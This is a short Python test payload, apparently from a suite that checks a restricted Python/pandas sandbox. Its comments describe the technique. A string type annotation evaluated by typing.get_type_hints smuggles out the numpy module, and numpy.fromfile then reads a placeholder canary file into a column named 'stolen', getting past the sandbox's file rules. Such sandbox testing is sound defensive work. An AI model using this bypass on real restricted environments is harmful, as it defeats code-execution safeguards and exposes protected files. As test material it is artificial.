# class: module_reach
# technique: a get_type_hints annotation returns the numpy module itself as a value (np as a value is refused, the annotation's result is not); value attributes skip the file rules for module functions: npv.fromfile reads the canary
# goal: read
import typing

import numpy as np
import pandas as pd

holder = []


def series(x: "[holder.append(np), int][-1]"):
    return x


typing.get_type_hints(series)
npv = holder[0]
raw = npv.fromfile("{{CANARY_FILE}}", dtype=npv.uint8)
df = pd.DataFrame({"stolen": [raw.tobytes().decode("latin-1")]})
